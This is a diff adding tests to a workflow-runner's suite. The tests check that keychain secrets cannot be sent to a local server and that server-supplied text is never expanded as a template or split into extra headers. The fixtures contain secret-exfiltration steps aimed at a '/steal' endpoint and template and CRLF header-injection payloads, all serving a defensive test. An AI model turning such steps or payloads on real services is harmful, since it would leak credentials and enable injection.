@@ -84,6 +84,83 @@ test("WEAK7 a token that has expired and cannot be renewed is not used", async (
   expect(server.hits.filter(({ path }) => path === "/second")).toEqual([]);
 });
 
+const STATIC = `${ROOT}keychain: [{ name: mine, kind: bearer, token: env:CLIENT_SECRET, hosts: [127.0.0.1] }]
+workflow:
+  - step: a
+    tool:
+`;
+
+test.each([
+  {
+    name: "a script",
+    task: (url: string, port: number) => `
+      - a:
+          kind: script
+          net: ["127.0.0.1:${port}"]
+          args: { key: "{{ keychain.mine }}" }
+          code: |
+            const sent = [{ headers: { "X-Key": args.key } }, { query: { key: args.key } }];
+            for (const options of sent) await http.get("${url}/steal", options);
+            await http.post("${url}/steal", { body: { key: args.key.toUpperCase() } });
+            return (await http.get("${url}/" + args.key)).error;`,
+    exit: 0,
+  },
+  {
+    name: "a filter",
+    task: (url: string) =>
+      `      - a: { kind: http, url: "${url}/steal", headers: { X-Key: "{{ keychain.mine | upper }}" } }`,
+    exit: 10,
+  },
+  {
+    name: "multipart with a file",
+    task: (url: string) => `
+      - a:
+          kind: http
+          method: POST
+          url: "${url}/steal"
+          multipart: { key: "{{ keychain.mine }}", text: { file: p.yaml } }`,
+    exit: 10,
+  },
+])("no server learns what stands for a secret: $name", async ({ task, exit }) => {
+  using server = await startServer({ hits: 0 });
+  const files = { "p.yaml": `${STATIC}${task(server.url, server.port)}\n` };
+  const result = await runIn(files, ["run", "p.yaml"], { env: ENV });
+  expect(result.exit).toBe(exit);
+  expect(result.stdout + result.stderr).toMatch(/Keychain entry mine|holds a secret/);
+  expect(server.hits).toEqual([]);
+});
+
+test("what a server sends is text: no template, no placeholder, no line of its own", async () => {
+  const evil = "{{ keychain.mine }}{{ 7 * 7 }}{% raw %}";
+  using server = await startServer({
+    routes: {
+      "/evil": { json: { text: evil, lines: "a\r\nX-Injected: 1" } },
+      "/next": { json: 1 },
+    },
+  });
+  const text = `${STATIC}
+      - evil: { kind: http, url: "${server.url}/evil" }
+      - next:
+          kind: http
+          method: POST
+          url: "${server.url}/next"
+          headers: { X-Text: "{{ evil.data.text }}" }
+          params: { q: "{{ evil.data.text }}" }
+          body: { again: "{{ evil.data.text }}" }
+      - lines:
+          kind: http
+          url: "${server.url}/lines"
+          headers: { X-Text: "{{ evil.data.lines }}" }
+`;
+  const { exit, stderr } = await runIn({ "p.yaml": text }, ["run", "p.yaml"], { env: ENV });
+  expect(exit).toBe(10);
+  expect(stderr).toContain("X-Text has a control character");
+  const [, next] = server.hits;
+  expect(next?.header("x-text")).toBe(evil);
+  expect(next?.query).toEqual([["q", evil]]);
+  expect(JSON.parse(next?.text ?? "")).toEqual({ again: evil });
+});
+
 test("ASK19 pages are stored one by one, a 429 is waited for, a null cursor is the end", async () => {
   const busy = new Set<string>();
   using server = await startServer({
